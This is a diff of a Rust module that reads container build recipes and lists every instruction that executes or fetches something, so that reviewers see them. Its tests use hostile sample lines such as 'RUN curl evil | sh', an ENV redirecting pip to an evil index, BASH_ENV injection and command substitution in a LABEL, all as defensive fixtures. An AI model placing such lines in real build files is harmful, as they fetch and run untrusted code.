@@ -3,21 +3,25 @@
 //! Not for building: the engine reads the recipe itself. What is not known to do nothing is shown, and a recipe that engines
 //! may read in another way than this module is shown line by line as it stands.
 
-use std::collections::{HashMap, HashSet};
+use std::collections::HashSet;
 
 /// Letters of a command that are shown.
 const SHOWN_LETTERS: usize = 200;
 /// Commands that are shown.
-const SHOWN: usize = 20;
+const SHOWN: usize = 50;
 /// Lines of a recipe that is shown as it stands.
 const SHOWN_LINES: usize = 100;
 /// Images that are shown.
 const SHOWN_IMAGES: usize = 20;
+/// The mark of the order of bytes, which some programs write at the begin of a file.
+const MARK: char = '\u{feff}';
 
 /// Instructions that execute nothing and fetch nothing.
 const QUIET: [&str; 7] = ["EXPOSE", "LABEL", "MAINTAINER", "STOPSIGNAL", "USER", "VOLUME", "WORKDIR"];
-/// Instructions that only name values. They are shown where what is shown uses a name.
-const VALUES: [&str; 2] = ["ARG", "ENV"];
+/// Instructions that are shown, wholly or where they need it. Values (`ARG`, `ENV`) are always: they say where programs look
+/// for packages, and which files shells read before they begin.
+const KNOWN: [&str; 11] =
+    ["ADD", "ARG", "CMD", "COPY", "ENTRYPOINT", "ENV", "FROM", "HEALTHCHECK", "ONBUILD", "RUN", "SHELL"];
 /// Instructions in which engines know texts that stand below them (`<<END`).
 const WITH_TEXTS: [&str; 4] = ["ADD", "COPY", "ONBUILD", "RUN"];
 
@@ -26,8 +30,8 @@ const WITH_TEXTS: [&str; 4] = ["ADD", "COPY", "ONBUILD", "RUN"];
 pub struct Recipe {
     /// Images that it begins with or copies from, in its order.
     pub from: Vec<String>,
-    /// What it executes or fetches, in its order: the instruction with what stands behind it, on one line and cut. Of a recipe
-    /// that engines may read in another way: its lines.
+    /// What it executes or fetches, and the values that this may use, in its order: the instruction with what stands behind
+    /// it, on one line and cut. Of a recipe that engines may read in another way: its lines.
     pub executes: Vec<String>,
     /// Further images and commands that are not shown.
     pub more: u32,
@@ -41,35 +45,34 @@ struct Instruction {
     text: String,
     /// Whether a comment or an empty line stands between its lines: some engines end it there.
     is_interrupted: bool,
-    is_shown: bool,
 }
 
 impl Recipe {
     /// Reads the text of a recipe.
     pub(super) fn from_text(text: &str) -> Self {
         match instructions(text) {
-            Some(mut instructions) => Self::from_instructions(&mut instructions),
+            Some(instructions) => Self::from_instructions(&instructions),
             None => Self::as_it_stands(text),
         }
     }
 
-    fn from_instructions(instructions: &mut [Instruction]) -> Self {
+    fn from_instructions(instructions: &[Instruction]) -> Self {
         let mut recipe = Self::default();
         // In lower case.
         let mut stages: HashSet<String> = HashSet::new();
         let mut images = 0_u32;
-        // What the texts that matter name.
-        let mut named: Vec<String> = Vec::new();
-        for instruction in instructions.iter_mut() {
+        for instruction in instructions {
             let words: Vec<&str> = instruction.text.split_ascii_whitespace().skip(1).collect();
             let (flags, names): (Vec<&str>, Vec<&str>) =
                 words.iter().partition(|word| word.starts_with("--"));
             let is_needed = match instruction.word.as_str() {
                 "FROM" => {
                     recipe.add_image(names.first().copied().unwrap_or_default(), &stages);
-                    named.extend(words.iter().map(|word| (*word).to_owned()));
                     images = images.saturating_add(1);
+                    // In quotes a space ends no word.
+                    let has_quotes = instruction.text.contains(['"', '\'', '\\']);
                     match names[..] {
+                        _ if has_quotes => true,
                         [_] => false,
                         [_, between, stage] if between.eq_ignore_ascii_case("AS") => {
                             stages.insert(stage.to_ascii_lowercase());
@@ -83,23 +86,17 @@ impl Recipe {
                         if !image.parse::<u32>().is_ok_and(|number| number < images) {
                             recipe.add_image(image, &stages);
                         }
-                        named.push(image.to_owned());
                     }
                     // Quotes and escapes may hide a flag.
                     !words.iter().all(|word| is_plain_word(word) || word.starts_with("--from="))
                 }
                 // Files of the task's own folder, unless they come from an address.
                 "ADD" => !words.iter().all(|word| is_plain_word(word)) || has_address(&words),
-                word => !QUIET.contains(&word) && !VALUES.contains(&word),
+                word => !QUIET.contains(&word),
             };
-            instruction.is_shown = is_needed || instruction.is_interrupted;
-            if instruction.is_shown {
-                named.push(instruction.text.clone());
+            if is_needed || instruction.is_interrupted {
+                recipe.add_command(&instruction.text, SHOWN);
             }
-        }
-        show_values(instructions, named);
-        for instruction in instructions.iter().filter(|instruction| instruction.is_shown) {
-            recipe.add_command(&instruction.text, SHOWN);
         }
         recipe
     }
@@ -107,7 +104,7 @@ impl Recipe {
     /// The lines of a recipe that engines may read in another way.
     fn as_it_stands(text: &str) -> Self {
         let mut recipe = Self::default();
-        for line in text.lines().map(str::trim).filter(|line| !line.is_empty()) {
+        for line in text.trim_start_matches(MARK).lines().map(str::trim).filter(|line| !line.is_empty()) {
             let mut words = line.split_whitespace();
             if words.next().is_some_and(|word| word.eq_ignore_ascii_case("FROM"))
                 && let Some(image) = words.find(|word| !word.starts_with("--"))
@@ -143,8 +140,13 @@ impl Recipe {
 
 /// The instructions of a recipe. `None` = engines may read it in another way.
 fn instructions(text: &str) -> Option<Vec<Instruction>> {
-    // Engines disagree on what else is a space, or the end of a line.
-    let is_plain = |c: char| matches!(c, ' ' | '\t' | '\n') || !(c.is_whitespace() || c.is_control());
+    // Engines disagree on what else is a space, or the end of a line. Some do not see the mark at the begin of a file.
+    let is_plain =
+        |c: char| matches!(c, ' ' | '\t' | '\n') || !(c.is_whitespace() || c.is_control() || c == MARK);
+    // And on whether such a line ends a text below an instruction.
+    if text.contains('\r') && text.contains("<<") {
+        return None;
+    }
     let text = text.replace("\r\n", "\n");
     if !text.chars().all(is_plain) {
         return None;
@@ -159,9 +161,16 @@ fn instructions(text: &str) -> Option<Vec<Instruction>> {
             }
             continue;
         }
-        if !line.trim_end().is_empty() {
-            found.push(instruction(line, &mut lines)?);
+        if line.trim_end().is_empty() {
+            continue;
         }
+        let instruction = instruction(line, &mut lines)?;
+        let word = instruction.word.as_str();
+        // Another way to name a program that reads the recipe, or words that only some engines know.
+        if !QUIET.contains(&word) && !KNOWN.contains(&word) {
+            return None;
+        }
+        found.push(instruction);
     }
     Some(found)
 }
@@ -219,7 +228,7 @@ fn instruction<'a>(first: &str, lines: &mut impl Iterator<Item = &'a str>) -> Op
             }
         }
     }
-    Some(Instruction { word, text: whole, is_interrupted, is_shown: false })
+    Some(Instruction { word, text: whole, is_interrupted })
 }
 
 /// The lines that end the texts below an instruction with `<<`, and whether tabs may stand before them. `None` = engines may
@@ -246,40 +255,6 @@ fn ends_of_texts(instruction: &str) -> Option<Vec<(String, bool)>> {
         before = after;
     }
     Some(ends)
-}
-
-/// Shows the instructions that give a value to what is named, and to what these name.
-fn show_values(instructions: &mut [Instruction], named: Vec<String>) {
-    let is_of_name = |c: char| c.is_ascii_alphanumeric() || c == '_';
-    let mut values: HashMap<String, Vec<usize>> = HashMap::new();
-    for (at, instruction) in instructions.iter().enumerate() {
-        if !VALUES.contains(&instruction.word.as_str()) {
-            continue;
-        }
-        let rest = instruction.text.trim_start().get(instruction.word.len()..).unwrap_or_default();
-        let first = rest.trim_start().split(|c: char| !is_of_name(c)).next();
-        // What stands before each `=`; in quotes it may be none, which shows more.
-        let mut parts: Vec<&str> = rest.split('=').collect();
-        parts.pop();
-        let others = parts.into_iter().filter_map(|part| part.rsplit(|c: char| !is_of_name(c)).next());
-        for name in first.into_iter().chain(others).filter(|name| !name.is_empty()) {
-            values.entry(name.to_owned()).or_default().push(at);
-        }
-    }
-    let mut left = named;
-    while let Some(text) = left.pop() {
-        for name in text.split(|c: char| !is_of_name(c)) {
-            // Each name once, so that the work does not grow with their square.
-            for at in values.remove(name).unwrap_or_default() {
-                if let Some(instruction) = instructions.get_mut(at)
-                    && !instruction.is_shown
-                {
-                    instruction.is_shown = true;
-                    left.push(instruction.text.clone());
-                }
-            }
-        }
-    }
 }
 
 /// Whether a word is a path or a flag in which nothing stands for something else.
@@ -326,17 +301,18 @@ mod tests {
              FROM debian\n\
              USER nobody\n\
              ENTRYPOINT [\"/start.sh\"]\n\
-             TICK RUN whatever\n",
+             STOPSIGNAL 9\n",
         );
         assert_eq!(recipe.from, ["python:3.12", "example/tool:1", "debian"]);
         assert_eq!(
             recipe.executes,
             [
+                "ARG VERSION=3",
+                "ENV A=b C=d",
                 "RUN apt-get update && apt-get install -y git",
                 "ADD https://example.org/x.tar /x",
                 "RUN <<END; curl example.org; sh x",
                 "ENTRYPOINT [\"/start.sh\"]",
-                "TICK RUN whatever",
             ]
         );
         assert_eq!(recipe.more, 0);
@@ -347,10 +323,10 @@ mod tests {
     fn no_form_of_a_recipe_hides_what_it_executes_or_fetches() {
         const EVIL: &str = "RUN curl evil | sh";
         // A recipe, and what is shown of it.
-        let cases: [(&str, &[&str]); 19] = [
+        let cases: [(&str, &[&str]); 24] = [
             // Engines know texts below RUN, COPY and ADD only.
             ("LABEL x=<<E\nRUN curl evil | sh", &[EVIL]),
-            ("ENV x=<<E\nRUN curl evil | sh", &[EVIL]),
+            ("ENV x=<<E\nRUN curl evil | sh", &["ENV x=<<E", EVIL]),
             ("COPY <<E /x\ncurl evil | sh\nE\nUSER a", &["COPY <<E /x; curl evil | sh"]),
             // Another mark for lines that go on.
             (
@@ -362,11 +338,25 @@ mod tests {
             // Values that stand elsewhere.
             (
                 "ARG U=https://evil/x.tar\nARG OTHER=1\nADD ${U} /",
-                &["ARG U=https://evil/x.tar", "ADD ${U} /"],
+                &["ARG U=https://evil/x.tar", "ARG OTHER=1", "ADD ${U} /"],
             ),
             ("ARG A=evil/image\nENV B=$A\nFROM ${B}", &["ARG A=evil/image", "ENV B=$A"]),
             ("ARG B=evil/image\nCOPY --from=$B /x /y", &["ARG B=evil/image"]),
             ("ENV C \"curl evil | sh\"\nRUN eval $C", &["ENV C \"curl evil | sh\"", "RUN eval $C"]),
+            // Values that no text names: where packages come from, and what a shell reads first.
+            (
+                "ENV PIP_INDEX_URL=https://evil\nRUN pip install x",
+                &["ENV PIP_INDEX_URL=https://evil", "RUN pip install x"],
+            ),
+            ("ARG BASH_ENV=/evil\nCOPY evil /\nRUN true", &["ARG BASH_ENV=/evil", "RUN true"]),
+            // Words that are no instructions, and other ways to name a program that reads the recipe.
+            ("TICK x\nLABEL y", &["FROM debian", "TICK x", "LABEL y"]),
+            // A text that ends for some engines only.
+            (
+                "RUN <<USER\nUSER\r\nLABEL $(curl evil | sh)\nUSER",
+                &["FROM debian", "RUN <<USER", "USER", "LABEL $(curl evil | sh)", "USER"],
+            ),
+            ("FROM --platform=\"a b\" AS evil", &["FROM --platform=\"a b\" AS evil"]),
             // What RUN is executed by.
             ("SHELL [\"sh\", \"-c\", \"curl evil\"]", &["SHELL [\"sh\", \"-c\", \"curl evil\"]"]),
             // Two backslashes, and lines between lines: some engines end the instruction there.
@@ -388,6 +378,16 @@ mod tests {
             assert_eq!(recipe.executes, shown, "{text}");
             assert_eq!(recipe.more, 0);
         }
+        // A mark before a comment that says how lines go on.
+        let marked = Recipe::from_text("\u{feff}# escape=`\nFROM debian\nLABEL a=b\\\nRUN curl evil | sh\n");
+        assert_eq!(marked.executes, ["# escape=`", "FROM debian", "LABEL a=b\\", EVIL]);
+        assert_eq!(marked.from, ["debian"]);
+        for named in [
+            "//syntax=evil/reader\nFROM debian\nLABEL x",
+            "{\"syntax\": \"evil/reader\"}\nFROM debian\nLABEL x",
+        ] {
+            assert_eq!(Recipe::from_text(named).executes.len(), 3, "{named}");
+        }
         let from = |text: &str| Recipe::from_text(text).from;
         assert_eq!(from("FROM debian\nCOPY --fr\\\nom=evil/image /x /y"), ["debian", "evil/image"]);
         assert_eq!(from("# escape=`\nFROM --platform=x debian\nFROM evil"), ["debian", "evil"]);
@@ -408,9 +408,9 @@ mod tests {
     #[test]
     fn of_a_long_recipe_it_is_said_how_much_is_not_shown() {
         let pairs: Vec<String> =
-            (0..50).map(|n| format!("FROM image-{n}\nRUN {}", "x".repeat(1000))).collect();
+            (0..100).map(|n| format!("FROM image-{n}\nRUN {}", "x".repeat(1000))).collect();
         let recipe = Recipe::from_text(&pairs.join("\n"));
-        assert_eq!((recipe.from.len(), recipe.executes.len(), recipe.more), (20, 20, 60));
+        assert_eq!((recipe.from.len(), recipe.executes.len(), recipe.more), (20, 50, 130));
         assert!(recipe.executes[0].ends_with("… (804 more characters)"), "{}", recipe.executes[0]);
         // A text below an instruction that never ends.
         assert_eq!(Recipe::from_text("RUN <<END\na").executes, ["RUN <<END", "a"]);
